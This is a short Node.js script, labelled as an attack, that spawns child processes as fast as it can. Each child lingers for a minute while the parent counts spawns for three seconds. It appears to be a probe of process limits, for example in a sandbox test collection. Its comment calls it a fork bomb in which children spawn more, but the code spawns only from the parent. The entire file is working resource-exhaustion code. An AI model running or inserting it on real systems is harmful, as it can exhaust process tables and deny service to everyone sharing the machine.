// Attack: a fork bomb in Node: spawn children that each spawn more.
const { spawn } = require('child_process');
let n = 0;
function bomb() {
  try {
    const c = spawn(process.execPath, ['-e', 'setTimeout(()=>{}, 60000)']);
    c.on('error', () => {});
    n++;
    setImmediate(bomb);
  } catch (e) { console.log('stopped at', n, e.code); }
}
bomb();
setTimeout(() => { console.log('spawned', n); process.exit(0); }, 3000);
